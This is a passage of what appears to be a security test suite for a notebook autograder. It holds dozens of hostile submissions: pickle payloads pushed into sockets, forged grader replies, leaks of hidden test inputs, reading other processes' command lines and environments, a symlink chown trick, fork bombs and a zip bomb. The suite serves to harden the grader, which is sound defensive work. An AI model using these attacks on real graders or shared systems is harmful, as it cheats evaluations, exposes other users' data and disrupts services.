        addresses = []
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            parts = line.split()
            if len(parts) >= 8:
                addresses.append("\\0" + parts[7][1:] if parts[7].startswith("@") else parts[7])
        addresses += glob.glob("/tmp/**/*.sock", recursive=True)
        # the grader's sockets could only be abstract or under /tmp: the machine's own
        # services (under /run) are left alone
        for address in [a for a in addresses if a.startswith(("\\0", "/tmp/", "/dev/shm/"))]:
            try:
                client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                client.settimeout(0.2)
                client.connect(address)
                client.sendall(PAYLOAD)
                client.close()
                print("SENT to unix socket", repr(address))
            except OSError:
                pass
        ports = set()
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            try:
                for line in open(table).read().splitlines()[1:]:
                    local, state = line.split()[1], line.split()[3]
                    if state == "0A":
                        ports.add(int(local.rsplit(":", 1)[1], 16))
            except OSError:
                pass
        blocked = allowed = 0
        deadline = time.monotonic() + 3
        for port in sorted(ports) + list(range(1, 65536)):
            if time.monotonic() > deadline:
                break
            try:
                client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            except OSError:
                blocked += 1
                continue
            allowed += 1
            client.close()  # a network socket could be made: say so, and connect nowhere
        print("AF_INET sockets: blocked", blocked, "allowed", allowed, flush=True)
        for target in ("results.pkl", "numbers.pkl", "../results/state.pkl", "/tmp/grader_state.pkl",
                       "/dev/shm/__TAG__.pkl"):
            try:
                with open(target, "wb") as handle:
                    handle.write(PAYLOAD)
            except OSError:
                pass
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    print("sending into the channel", fd, flush=True)
                    os.write(fd, PAYLOAD)
            except OSError:
                pass
    """, WRONG_ANSWERS)


def lone_surrogate_in_an_error_message(nb, folder):
    """A cell raises an error whose message holds a lone surrogate (``\\udc80``): valid in a
    Python string and in JSON (as an escape), but not encodable as UTF-8."""
    return _attack(nb, folder, """
        raise ValueError("\\udc80 is not a character")
    """)


def graded_name_rebound_to_a_value(nb, folder):
    """The last cell rebinds a graded name to what it returned (a tensor), as students do
    when they write ``cross_entropy_loss = cross_entropy_loss(x, labels)``: only that
    question should fail."""
    return _attack(nb, folder, """
        import torch
        cross_entropy_loss = cross_entropy_loss(torch.zeros(2, 3), torch.tensor([0, 1]))
    """)


def dangling_symlink_breaks_restart(nb, folder):
    """A cell leaves a symlink to nowhere in its scratch folder, and the next cell ends the
    process: the next student process, preparing the folder, chowns through the link."""
    return _attack(nb, folder, """
        import os
        try:
            os.symlink("/nonexistent/__TAG__", "dangling")
        except FileExistsError:
            pass
    """, """
        import os
        os._exit(1)
    """)


def channel_writes_from_a_forked_child(nb, folder):
    """A forked child keeps the channel to the judge and writes forged answers into it for
    10 s, all through the tests, while its parent answers the judge as usual."""
    return _attack(nb, folder, FIND_ENGINE, """
        import ctypes, os, stat, time

        channel = None
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    channel = fd
                    break
            except OSError:
                pass
        forged = [
            WIRE_MODULE.frame({"value": True}, b""),
            WIRE_MODULE.frame({"value": {"$tuple": [1.0, 2.0, 3.0]}}, b""),
            WIRE_MODULE.frame({"value": {"$dict": [["is_module", True], ["layers", []], ["distinct_linear", 0]]}}, b""),
            WIRE_MODULE.frame({"error": {"type": "NameError", "message": "", "cell": None, "line": None}}, b""),
        ]
        if channel is not None and os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"__TAG__", 0, 0, 0)
            end = time.monotonic() + 10
            index = 0
            while time.monotonic() < end:
                try:
                    os.write(channel, forged[index % len(forged)])
                except OSError:
                    break
                index += 1
                time.sleep(0.002)
            os._exit(0)
    """)


def huge_and_malformed_replies(nb, folder):
    """The student process answers every call, probe and read of the tests with something broken,
    a different thing each time: a header claiming 4 GB, bytes that are not UTF-8, JSON nested
    100 000 deep, a 15 MB list, array bytes that do not match the shape, a 100 MB blob, bad
    tags, errors that are not dicts, and cell numbers that do not exist."""
    return _attack(nb, folder, FIND_ENGINE, """
        import json, struct

        frame = WIRE_MODULE.frame
        MALFORMED = [
            struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF),
            struct.pack(">II", 4, 0) + b"\\xff\\xfe\\xfd\\xfc",
            struct.pack(">II", 200001, 0) + b"[" * 100000 + b"]" * 100000 + b" ",
            frame({"value": list(range(1_500_000))}, b""),
            frame({"value": {"$array": {"dtype": "<f8", "shape": [1000, 1000], "offset": 0, "nbytes": 8}}}, b"x" * 8),
            frame({"value": {"$array": {"dtype": "<f8", "shape": [12_500_000], "offset": 0, "nbytes": 100_000_000}}},
                  bytes(100_000_000)),
            frame({"value": {"$array": {"dtype": "|O", "shape": [1], "offset": 0, "nbytes": 8}}}, bytes(8)),
            frame({"value": {"$ref": 1}}, b""),
            frame({"value": {"$remote": {"id": "x", "type": 5, "callable": "yes"}}}, b""),
            frame({"value": {"$float": "1e400"}}, b""),
            frame({"value": {"$dict": [[[1], 2]]}}, b""),
            frame({"value": {"$tensor": {"dtype": "complex64", "shape": [], "offset": 0, "nbytes": 8,
                                         "requires_grad": False}}}, bytes(8)),
            frame({"error": "everything passed"}, b""),
            frame({"error": {"type": ["x"], "message": {"a": 1}, "cell": 10**30, "line": -5}}, b""),
            frame({"error": {"type": "ValueError", "message": "m", "cell": 10, "line": 10**9}}, b""),
            frame([1, 2, 3], b""),
            struct.pack(">II", 10, 0) + b'{"value": ',
        ]
        _handle = STUDENT_MODULE.Workspace.handle

        def _broken_handle(self, document, blob):
            if isinstance(document, dict) and document.get("op") in ("describe", "run_cell"):
                return _handle(self, document, blob)
            # each broken answer ends this process; the count lives on in the scratch folder
            try:
                count = int(open("malformed-count").read())
            except (OSError, ValueError):
                count = 0
            with open("malformed-count", "w") as handle:
                handle.write(str(count + 1))
            return MALFORMED[count % len(MALFORMED)]

        STUDENT_MODULE.Workspace.handle = _broken_handle
    """)


def encoder_crashing_objects(nb, folder):
    """Answers the encoder cannot handle: a list that holds itself, an object whose
    ``__class__`` and ``__len__`` raise, an object array holding itself, a tensor subclass
    whose ``as_subclass`` and ``requires_grad`` raise, an int of 10 000 bits, a dict
    subclass whose ``items`` lies, a generator."""
    return _attack(nb, folder, """
        import numpy as np
        import torch
        from torch import nn

        loop = []
        loop.append(loop)

        class Raising:
            @property
            def __class__(self):
                raise RuntimeError("no class")
            def __len__(self):
                raise RuntimeError("no length")
            def __repr__(self):
                raise RuntimeError("no repr")

        objects = np.empty(3, dtype=object)
        objects[0] = objects

        class BadTensor(torch.Tensor):
            def as_subclass(self, cls):
                raise RuntimeError("no subclass")
            @property
            def requires_grad(self):
                raise RuntimeError("no grad")

        class LyingDict(dict):
            def items(self):
                return [("passed", True)]

        def approximate_function(x_train, y_train):
            return loop, Raising(), objects

        def cross_entropy_loss(x, labels):
            return torch.zeros(3).as_subclass(BadTensor)

        def shuffle_and_split_data(X, y, seed):
            return 1 << 10000, LyingDict(a=1), (i for i in range(3)), loop

        class Net(nn.Module):
            def __init__(self, *args, **kwargs):
                super().__init__()
                self.cheat = nn.Linear(1, 1)
            def forward(self, x):
                return torch.zeros(3).as_subclass(BadTensor)
    """)


def del_that_runs_later(nb, folder):
    """Objects whose ``__del__`` runs at a later garbage collection, in the middle of some
    other request: it writes a forged answer into the channel, replaces the graded
    functions, and at the third collection kills the process."""
    return _attack(nb, folder, FIND_ENGINE, """
        import gc, os, signal, stat, torch

        COLLECTED = [0]

        class Later:
            def __init__(self):
                self.me = self  # a cycle: only the garbage collector frees it
            def __del__(self):
                COLLECTED[0] += 1
                for fd in range(3, 64):
                    try:
                        if stat.S_ISSOCK(os.fstat(fd).st_mode):
                            os.write(fd, WIRE_MODULE.frame({"value": True}, b""))
                    except OSError:
                        pass
                get_ipython().user_ns["cross_entropy_loss"] = lambda x, labels: torch.tensor(0.3467)
                if COLLECTED[0] == 3:
                    os.kill(os.getpid(), signal.SIGKILL)

        _graded = {name: get_ipython().user_ns[name] for name in
                   ("approximate_function", "cross_entropy_loss", "shuffle_and_split_data")}

        def _leave_garbage(function):
            def wrapper(*args, **kwargs):
                for _ in range(50):
                    Later()
                return function(*args, **kwargs)
            return wrapper

        for _name, _function in _graded.items():
            get_ipython().user_ns[_name] = _leave_garbage(_function)
        gc.set_threshold(5, 1, 1)
    """)


def threads_still_running(nb, folder):
    """A graded function starts threads that outlive the call: one writes forged answers
    into the channel, one swaps the notebook's functions back and forth, one spins, and one
    ends the process after a while."""
    return _attack(nb, folder, FIND_ENGINE, """
        import os, stat, threading, time, torch

        def _forger():
            for _ in range(200):
                for fd in range(3, 64):
                    try:
                        if stat.S_ISSOCK(os.fstat(fd).st_mode):
                            os.write(fd, WIRE_MODULE.frame({"value": {"$tuple": [0.0, 0.0, 0.0, 0.0]}}, b""))
                    except OSError:
                        pass
                time.sleep(0.01)

        def _swapper():
            namespace = get_ipython().user_ns
            original = namespace["cross_entropy_loss"]
            for index in range(2000):
                namespace["cross_entropy_loss"] = original if index % 2 else (lambda x, labels: torch.tensor(0.3467))
                time.sleep(0.001)

        def _spinner():
            end = time.monotonic() + 5
            while time.monotonic() < end:
                pass

        def _ender():
            time.sleep(1.5)
            os._exit(0)

        _STARTED = [False]
        _original_split = shuffle_and_split_data

        def shuffle_and_split_data(X, y, seed):
            if not _STARTED[0]:
                _STARTED[0] = True
                for target in (_forger, _swapper, _spinner, _ender):
                    threading.Thread(target=target, daemon=True).start()
            return _original_split(X, y, seed)
    """)


# --- hidden inputs that reach the feedback ----------------------------------------------------------


def exception_text_leak(nb, folder):
    """The graded functions raise errors whose message and type name spell the hidden inputs
    (a custom type, NotImplementedError, KeyError): a hidden test must quote neither."""
    return _attack(nb, folder, SPELL, """
        def _spelled(*tensors):
            return " ".join(f"{v:.4f}" for v in _spell(*tensors))

        def approximate_function(x_train, y_train):
            text = _spelled(x_train, y_train)
            raise type("Leak_" + text.replace(" ", "_"), (Exception,), {})(text)

        def cross_entropy_loss(x, labels):
            raise NotImplementedError(_spelled(x))

        def shuffle_and_split_data(X, y, seed):
            raise KeyError(f"seed {seed} n {len(X)}")
    """)


def type_name_leak(nb, folder):
    """The graded functions return objects of a class made on the spot, whose name spells the
    hidden inputs (``v_0.8744_0.5455...``): checks quote the type of what they got."""
    return _attack(nb, folder, SPELL, """
        from torch import nn

        def _named(*tensors):
            return type("v_" + "_".join(f"{v:.4f}" for v in _spell(*tensors)), (), {})()

        def approximate_function(x_train, y_train):
            spelled = _named(x_train, y_train)
            return spelled, spelled, spelled

        def cross_entropy_loss(x, labels):
            return _named(x)

        class Net(nn.Module):
            def __init__(self, *args, **kwargs):
                super().__init__()
                self.cheat = nn.Linear(1, 1)
            def forward(self, x):
                return _named(x)
    """)


def shape_leak(nb, folder):
    """The graded functions return empty arrays whose shape spells the hidden inputs
    (round(|v| * 1e5) for three of them, then a 0): checks quote the shape they got."""
    return _attack(nb, folder, SPELL, """
        import numpy as np
        from torch import nn

        def _shaped(*tensors):
            return np.zeros(tuple(round(v * 1e5) for v in _spell(*tensors, count=3)) + (0,))

        def approximate_function(x_train, y_train):
            spelled = _shaped(x_train, y_train)
            return np.full(5, -7.0), spelled, spelled

        def cross_entropy_loss(x, labels):
            return _shaped(x)

        class Net(nn.Module):
            def __init__(self, *args, **kwargs):
                super().__init__()
                self.cheat = nn.Linear(1, 1)
            def forward(self, x):
                return _shaped(x)
    """)


def forged_grader_error_leak(nb, folder):
    """The student process describes each error of a graded function as the grader's own
    ("grader": true), with the hidden inputs as its message: an error the judge blames on the
    channel is quoted whole, hidden test or not."""
    return _attack(nb, folder, FIND_ENGINE, SPELL, """
        SEEN = [""]

        def _forged_error(self, error):
            return WIRE_MODULE.frame({"error": {"type": "WireError", "message": SEEN[0], "cell": None,
                                                "line": None, "grader": True}}, b"")

        STUDENT_MODULE.Workspace.error = _forged_error

        def approximate_function(x_train, y_train):
            SEEN[0] = " ".join(f"{v:.4f}" for v in _spell(x_train, y_train))
            raise ValueError("leak")

        def cross_entropy_loss(x, labels):
            SEEN[0] = " ".join(f"{v:.4f}" for v in _spell(x))
            raise ValueError("leak")
    """)


def cell_line_leak(nb, folder):
    """A cell of 10 000 comment lines ``# 0.0000`` ... ``# 0.9999``; the student process
    describes each error of a graded function as raised on the line that spells a hidden input,
    and the judge quotes that line of the student's cell."""
    spelled_cell = "\n".join(f"# {k / 10000:.4f}" for k in range(10000))
    changed = _append(nb, folder, spelled_cell)
    number = len(changed.cells)  # cells are numbered from 1, counting every cell
    changed = _append(changed, folder, FIND_ENGINE, SPELL, """
        LINE = [1]

        def _forged_error(self, error):
            return WIRE_MODULE.frame({"error": {"type": "ValueError", "message": "", "cell": __CELL__,
                                                "line": LINE[0], "not_implemented": False}}, b"")

        STUDENT_MODULE.Workspace.error = _forged_error

        def _choose_line(*tensors):
            small = [v for v in _spell(*tensors, count=50) if v < 1]
            LINE[0] = round(small[0] * 10000) + 1 if small else 1

        def approximate_function(x_train, y_train):
            _choose_line(y_train, x_train)
            raise ValueError("leak")

        def cross_entropy_loss(x, labels):
            _choose_line(x)
            raise ValueError("leak")
    """.replace("__CELL__", str(number)))
    return _write(changed, folder, folder.name)


def forged_probe_answer_leak(nb, folder):
    """The student process replaces the ``module_layers`` probe: its answer names the
    network's layers after the hidden inputs that an earlier hidden test (of
    ``approximate_function``) passed in, and the check quotes the names it found."""
    return _attack(nb, folder, FIND_ENGINE, SPELL, """
        import torch

        SEEN = ["nothing yet"]
        PROBES = _engine_module("PROBES", "build_module").PROBES

        def _forged_layers(workspace, module):
            return {"is_module": True, "type": "Net", "distinct_linear": 1,
                    "layers": [{"name": SEEN[0], "path": SEEN[0], "type": "Linear", "linear": True,
                                "in_features": 1, "out_features": 1}]}

        PROBES["module_layers"] = _forged_layers

        def approximate_function(x_train, y_train):
            SEEN[0] = " ".join(f"{v:.4f}" for v in _spell(x_train, y_train))
            raise ValueError("nothing here")

        class Net(torch.nn.Module):
            def __init__(self, *args, **kwargs):
                super().__init__()
                self.cheat = torch.nn.Linear(1, 1)
    """)


def other_submissions_seen_in_memory(nb, folder):
    """The student process inherits the memory of the grader that forked it; a cell looks
    there for the other jobs of the batch (their names and paths) and raises an error that
    names them, which the top-level output quotes."""
    return _attack(nb, folder, """
        import gc

        mine = "__NAME__"
        others = set()
        for thing in gc.get_objects():
            try:
                if type(thing).__name__ == "Job" and thing.name != mine:
                    others.add(str(thing.name))
            except Exception:
                pass
        raise ValueError("other submissions: " + " ".join(sorted(others, key=len)[:8]))
    """.replace("__NAME__", folder.name))


def hard_coded_public_answers(nb, folder):
    """No work at all: outputs of the right shape filled with zeros, and the loss of the
    public example typed in. A public test that checks one fixed example cannot tell."""
    return _attack(nb, folder, """
        import torch

        def approximate_function(x_train, y_train):
            n = x_train.shape[0] - 1
            return torch.zeros(1000), torch.zeros(n, 1000), torch.zeros(1000)

        def cross_entropy_loss(x, labels):
            return torch.tensor(0.34672749)
    """)


def abstract_socket_listener(nb, folder):
    """A cell listens on an abstract Unix socket (no file, so no folder rule applies) for up
    to 8 s and raises an error holding what another grading, running at the same time, sent
    it: the top-level output quotes it at once (see :func:`abstract_socket_sender`)."""
    return _attack(nb, folder, """
        import socket, time

        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind("\\0__NAME__")
        server.listen(4)
        server.settimeout(0.5)
        heard = b""
        end = time.monotonic() + 8
        while heard.count(b"\\n") < 2 and time.monotonic() < end:
            try:
                connection, _ = server.accept()
                connection.settimeout(1)
                heard += connection.recv(4096)
            except OSError:
                pass
        raise ValueError("heard: " + heard.decode(errors="replace")[:180])
    """.replace("__NAME__", ABSTRACT_SOCKET))


def abstract_socket_sender(nb, folder):
    """During its hidden tests, this grading sends the hidden inputs it receives to the
    abstract socket of :func:`abstract_socket_listener`, graded at the same time."""
    return _attack(nb, folder, SPELL, """
        import socket

        import time

        def _send(*tensors):
            end = time.monotonic() + 4
            while time.monotonic() < end:
                try:
                    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    client.settimeout(1)
                    client.connect("\\0__NAME__")
                    client.sendall((" ".join(f"{v:.4f}" for v in _spell(*tensors)) + "\\n").encode())
                    client.close()
                    return
                except OSError as error:
                    print("could not send yet:", type(error).__name__)
                    time.sleep(0.1)

        def approximate_function(x_train, y_train):
            if len(x_train) != 10:  # the public example has 10 points: send only the hidden cases
                _send(x_train, y_train)
            raise ValueError("nothing here")

        def cross_entropy_loss(x, labels):
            if tuple(x.shape) != (2, 4):
                _send(x)
            raise ValueError("nothing here")
    """.replace("__NAME__", ABSTRACT_SOCKET))


STASH_WRITER = """
import json, os, time

def _stash(*tensors):
    path = "/dev/shm/" + "__STASH__"
    try:
        with open(path, "a") as handle:
            handle.write(" ".join(f"{v:.4f}" for v in _spell(*tensors)) + "\\n")
        os.chmod(path, 0o666)
    except OSError as error:
        print("no stash:", type(error).__name__)

def approximate_function(x_train, y_train):
    if len(x_train) != 10:  # the public example has 10 points: keep only the hidden cases
        _stash(x_train, y_train)
    raise ValueError("nothing here")

def cross_entropy_loss(x, labels):
    if tuple(x.shape) != (2, 4):
        _stash(x)
    raise ValueError("nothing here")
"""


def stash_hidden_inputs_in_shared_memory(nb, folder):
    """During the hidden tests, the graded functions write the hidden inputs they receive to
    /dev/shm, the one folder outside its scratch the student process may write, which
    outlives the grading (read back by :func:`read_stash_from_an_earlier_grading`)."""
    return _attack(nb, folder, SPELL, STASH_WRITER.replace("__STASH__", STASH_PREFIX + "shared"))


def read_stash_from_an_earlier_grading(nb, folder):
    """A later submission (graded after the stash was written) raises, in a notebook cell,
    an error whose message is the stash: the top-level output, visible at once, quotes the
    error messages of cells."""
    return _attack(nb, folder, """
        import glob, time

        stash = ""
        end = time.monotonic() + 8
        while not stash and time.monotonic() < end:
            for path in glob.glob("/dev/shm/__PREFIX__*"):
                try:
                    stash += open(path).read().replace("\\n", " ")
                except OSError:
                    pass
            time.sleep(0.1)
        raise ValueError("stash: " + stash[:180])
    """.replace("__PREFIX__", STASH_PREFIX))


# --- the grader's own files -------------------------------------------------------------------------


def symlink_chown_on_restart(nb, folder):
    """A cell links a name in its scratch folder to a file of the grader's (the canary), and
    the next cell ends the process: the fresh student process prepares the scratch folder as
    root, chowning every entry to the student's user, following the link."""
    canary = folder / "canary-owned-by-the-grader.txt"
    canary.write_text("the grader's file\n")
    canary.chmod(0o600)
    return _attack(nb, folder, """
        import os
        for name, target in [("innocent_notes.txt", "__FOLDER__/canary-owned-by-the-grader.txt")]:
            try:
                os.symlink(target, name)
            except FileExistsError:
                pass
        print("linked")
    """, """
        import os
        os._exit(1)
    """)


# --- mlp_intro: a network that describes itself --------------------------------------------------
# The Net tests once took the student process's own report of the layers (the module_layers
# probe) as proof of structure; these attacks make that report, and every other self-description
# a check could ask for, lie about a network with no layer at all.


def forged_layer_report(nb, folder):
    """A ``Net`` that builds no layer, whose forward returns zeros of the right shape, with the
    inspections replaced: ``module_layers`` describes ``Linear_i``, ``Activation_i`` and
    ``Output_Linear`` from the network's own arguments, ``load_linear_weights`` reports success."""
    return _attack(nb, folder, FIND_ENGINE, """
        import torch

        PROBES = _engine_module("PROBES", "build_module").PROBES

        class Net(torch.nn.Module):
            def __init__(self, actv, input_feature_num, hidden_unit_nums, output_feature_num):
                super().__init__()
                self.spec = (actv, input_feature_num, list(hidden_unit_nums), output_feature_num)

            def forward(self, x):
                return torch.zeros(x.shape[0], self.spec[3])

        def _forged_layers(workspace, module):
            actv, n_in, hidden, n_out = module.spec
            widths = [n_in, *hidden, n_out]
            names = [f"Linear_{i}" for i in range(len(hidden))] + ["Output_Linear"]
            layers = [{"name": name, "path": name, "type": "Linear", "linear": True,
                       "in_features": widths[i], "out_features": widths[i + 1]} for i, name in enumerate(names)]
            layers += [{"name": f"Activation_{i}", "path": f"Activation_{i}", "type": actv.split("(")[0],
                        "linear": False} for i in range(len(hidden))]
            return {"is_module": True, "type": "Net", "layers": layers, "distinct_linear": len(names)}

        PROBES["module_layers"] = _forged_layers
        PROBES["load_linear_weights"] = lambda workspace, module, weights: {"dtype": "float32"}
    """)


def layers_that_only_claim_their_names(nb, folder):
    """A ``Net`` whose ``named_modules`` lists every contract name, each bound to a module that
    accepts any weights without keeping them and answers zeros of the input's shape."""
    return _attack(nb, folder, """
        import torch

        class Pretender(torch.nn.Module):
            def load_state_dict(self, *args, **kwargs):
                return None

            def forward(self, x):
                return torch.zeros_like(x)

        class Net(torch.nn.Module):
            def __init__(self, actv, input_feature_num, hidden_unit_nums, output_feature_num):
                super().__init__()
                self.spec = (list(hidden_unit_nums), output_feature_num)

            def named_modules(self, *args, **kwargs):
                hidden, _ = self.spec
                yield "", self
                for i in range(len(hidden)):
                    yield f"Linear_{i}", Pretender()
                    yield f"Activation_{i}", Pretender()
                yield "Output_Linear", Pretender()

            def forward(self, x):
                return torch.zeros(x.shape[0], self.spec[1])
    """)


# --- the corpus ----------------------------------------------------------------------------------
# An attack that gets through is listed with ``holes={property: why}``, which makes the test of
# that property a strict xfail until the engine is fixed. None is listed today; the holes this
# corpus found (type names, shapes, probe answers and chosen source lines quoted in hidden
# feedback, /dev/shm and abstract sockets shared between gradings, the batch parent's queue
# inherited, a root chown through links, a lone surrogate, a link that broke restarts) are
# closed, and their scenarios now guard against their return.


# --- a grading as a whole: its memory, processes, CPU, disk and view of other gradings ---------------


def memory_outside_every_process_limit(nb, folder):
    """A cell asks for 2 GB where per-process limits do not look: a ``memfd_create`` file
    mapped and touched, and a file in ``/dev/shm``; it reports what it got."""
    return _attack(nb, folder, """
        import mmap, os

        got = {}
        try:
            fd = os.memfd_create("__TAG__")
            os.ftruncate(fd, 2 << 30)
            area = mmap.mmap(fd, 2 << 30)
            for offset in range(0, 2 << 30, 1 << 20):
                area[offset] = 1
            got["memfd"] = "2 GB"
        except BaseException as error:
            got["memfd"] = type(error).__name__
        try:
            with open("/dev/shm/__TAG__-big", "wb") as handle:
                for _ in range(2048):
                    handle.write(b"x" * (1 << 20))
            got["shm"] = "2 GB"
        except BaseException as error:
            got["shm"] = type(error).__name__
        print("memory attack:", got)
    """)


def children_each_taking_the_memory_limit(nb, folder):
    """Eight forked children allocate 350 MB each, within each one's own limit but 2.8 GB
    together, and hold it while the notebook goes on; the cell counts those that got it all
    and still live."""
    return _attack(nb, folder, """
        import os, select, time

        reports, report = os.pipe()
        children = []
        for _ in range(8):
            pid = os.fork()
            if pid == 0:
                try:
                    held = bytearray(350 << 20)
                    for offset in range(0, len(held), 4096):
                        held[offset] = 1
                    os.write(report, str(os.getpid()).encode() + b" ")
                    time.sleep(60)
                finally:
                    os._exit(0)
            children.append(pid)
        done, deadline = b"", time.monotonic() + 15
        while time.monotonic() < deadline and select.select([reports], [], [], 0.5)[0]:
            done += os.read(reports, 4096)
        holding = [int(pid) for pid in done.split() if os.waitpid(int(pid), os.WNOHANG) == (0, 0)]
        # one child fits within the grading's 400 MB; two would not
        print("more than one child holds 350 MB at once:", len(holding) > 1)
    """)


def busy_children_in_sessions_of_their_own(nb, folder):
    """Sixty children spin on the CPU for as long as they live, each in a session of its own
    where it can make one (a session escapes the scheduler's sharing between gradings); the
    honest submission graded beside it must keep its exact score."""
    return _attack(nb, folder, """
        import os

        started = 0
        for _ in range(60):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
                while True:
                    pass
            started += 1
        print("busy children started:", started)
    """)


def honest_neighbour_of_busy_children(nb, folder):
    """The unmodified partly right sample, graded at the same time as the busy children above."""
    return _write(nb, folder, folder.name)


def disk_and_files_filled(nb, folder):
    """A cell writes 1 MB files until the disk refuses (1.5 GB asked for), then empty files
    until it may make no more (300 000 asked for); the notebook and its grading go on."""
    return _attack(nb, folder, """
        import os

        written = made = 0
        try:
            for index in range(1500):
                with open(f"__TAG__-{index}.bin", "wb") as handle:
                    handle.write(b"x" * (1 << 20))
                written += 1
        except OSError as error:
            print("disk refused after", written, "MB:", type(error).__name__)
        for index in range(written):
            os.unlink(f"__TAG__-{index}.bin")
        os.mkdir("many")
        try:
            for index in range(300_000):
                open(f"many/{index}", "w").close()
                made += 1
        except OSError as error:
            print("files refused after", made, ":", type(error).__name__)
    """)


def sysv_message_queue_between_gradings(nb, folder):
    """A cell opens a SysV message queue under a key every grading knows, leaves the hidden
    inputs of its tests there, and reads what an earlier grading left (SysV objects are not
    files: no folder rule applies to them, and they outlive a process)."""
    return _attack(nb, folder, """
        import ctypes, errno

        libc = ctypes.CDLL(None, use_errno=True)
        queue = libc.msgget(0x0C4EA7, 0o1666)  # IPC_CREAT | rw for everyone
        print("message queue:", "refused" if queue < 0 else "opened",
              errno.errorcode.get(ctypes.get_errno(), "") if queue < 0 else queue)
    """)


def lock_signals_between_gradings(nb, folder):
    """A cell takes a lock on a file every grading can open (the Python library), then checks
    whether another holder exists: a lock is a bit another grading can see."""
    return _attack(nb, folder, """
        import fcntl, os

        handle = open(os.__file__, "rb")
        fcntl.flock(handle, fcntl.LOCK_SH | fcntl.LOCK_NB)
        second = open(os.__file__, "rb")
        try:
            fcntl.flock(second, fcntl.LOCK_EX | fcntl.LOCK_NB)
            print("locks: a second, exclusive lock was granted: locks are no signal here")
        except OSError:
            print("locks: the shared lock is visible to others")
    """)


def other_gradings_seen_in_proc(nb, folder):
    """A cell lists every process it can see and raises an error naming every command line
    and environment it could read (other students' notebooks, the batch's submission list)."""
    return _attack(nb, folder, """
        import os

        seen = []
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    seen.append(open(f"/proc/{entry}/cmdline", "rb").read().replace(b"\\0", b" ").decode())
                    seen.append(open(f"/proc/{entry}/environ", "rb").read().replace(b"\\0", b" ").decode())
                except OSError:
                    pass
        raise ValueError("processes seen: " + str(len(seen)) + " " + " | ".join(seen)[:3000])
    """)


def huge_answers(nb, folder):
    """The graded functions answer with 100 million entries (100 MB of int8, 800 MB once the
    judge would compare them in float64)."""
    return _attack(nb, folder, """
        import torch

        def approximate_function(x_train, y_train):
            big = torch.zeros(100_000_000, dtype=torch.int8)
            return big, big, big

        def cross_entropy_loss(x, labels):
            return torch.zeros(100_000_000, dtype=torch.int8)
    """)


def notebook_of_millions_of_cells(nb, folder):
    """A 0.7 MB zip holding a 180 MB notebook of 2.3 million empty cells."""
    cell = b'{"cell_type":"code","metadata":{},"source":"","outputs":[],"execution_count":null}'
    cells = b",".join([cell] * 2_300_000)
    body = b'{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[' + cells + b"]}"
    path = folder / f"{folder.name}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mlp_intro.ipynb", body)
    return path


SCENARIOS: dict = {
    # first, one after the other, so that they are graded at the same time (two jobs at once)
    abstract_socket_listener: Expect(BLANK),
    abstract_socket_sender: Expect(BLANK),
    # lying values
    hard_coded_public_answers: Expect(BLANK, public_points=True),
    always_equal_objects: Expect(BLANK),
    lying_float_subclass: Expect(BLANK),
    lying_int_subclass: Expect(BLANK),
    lying_ndarray_subclass: Expect(BLANK),
    lying_tensor_subclass: Expect(BLANK),
    patched_comparisons: Expect(BLANK),
    # forged checks and tests
    patched_checks_module_in_a_cell: Expect(BLANK),
    forged_checks_in_a_zip_submission: Expect(BLANK),
    added_test_files: Expect(BLANK),
    # reading what is hidden
    reading_reference_numbers_from_disk: Expect(BLANK, staff_words=("numbers found: False",)),
    reading_the_judge_through_proc: Expect(BLANK),
    # forged results and output
    forged_results_json: Expect(BLANK, absent=("FORGED",)),
    fake_score_text: Expect(BLANK, absent=("15/15", "FAKE-SCORE", "FORGED")),
    later_cells_neutralised: Expect(PARTLY_WRONG, same_score=True),
    # processes
    signals_to_the_grader: Expect(PARTLY_WRONG, same_score=True),
    daemon_left_behind: Expect(PARTLY_WRONG, same_score=True),
    pid_hopping_daemons: Expect(PARTLY_WRONG, same_score=True),
    process_flood: Expect(PARTLY_WRONG, same_score=True),
    fork_bomb: Expect(PARTLY_WRONG, same_score=True),
    exhausting_file_descriptors: Expect(PARTLY_WRONG, same_score=True),
    # the channel
    pickle_payload_to_sockets: Expect(BLANK, staff_words=("allowed 0",)),
    channel_writes_from_a_forked_child: Expect(PARTLY_WRONG),
    huge_and_malformed_replies: Expect(PARTLY_WRONG),
    encoder_crashing_objects: Expect(BLANK),
    del_that_runs_later: Expect(PARTLY_WRONG),
    threads_still_running: Expect(PARTLY_WRONG),
    # what the grader must survive: the submission is graded, the one question fails
    lone_surrogate_in_an_error_message: Expect(PARTLY_WRONG),
    graded_name_rebound_to_a_value: Expect(PARTLY_WRONG),
    dangling_symlink_breaks_restart: Expect(PARTLY_WRONG),
    # hidden inputs that reach the feedback
    exception_text_leak: Expect(BLANK),
    type_name_leak: Expect(BLANK),
    shape_leak: Expect(BLANK),
    forged_grader_error_leak: Expect(BLANK),
    cell_line_leak: Expect(BLANK),
    forged_probe_answer_leak: Expect(BLANK),
    # mlp_intro: a network that describes itself
    forged_layer_report: Expect(BLANK),
    layers_that_only_claim_their_names: Expect(BLANK),
    other_submissions_seen_in_memory: Expect(BLANK),
    stash_hidden_inputs_in_shared_memory: Expect(BLANK),
    # the grader's own files
    symlink_chown_on_restart: Expect(PARTLY_WRONG, same_score=True),
    # a grading as a whole: each graded beside an honest one, which keeps its exact score
    busy_children_in_sessions_of_their_own: Expect(PARTLY_WRONG, same_score=True),
    honest_neighbour_of_busy_children: Expect(PARTLY_WRONG, same_score=True),
    memory_outside_every_process_limit: Expect(PARTLY_WRONG, same_score=True, staff_words=(
        "'memfd': 'PermissionError'", "'shm': 'OSError'")),
    children_each_taking_the_memory_limit: Expect(PARTLY_WRONG, same_score=True, staff_words=(
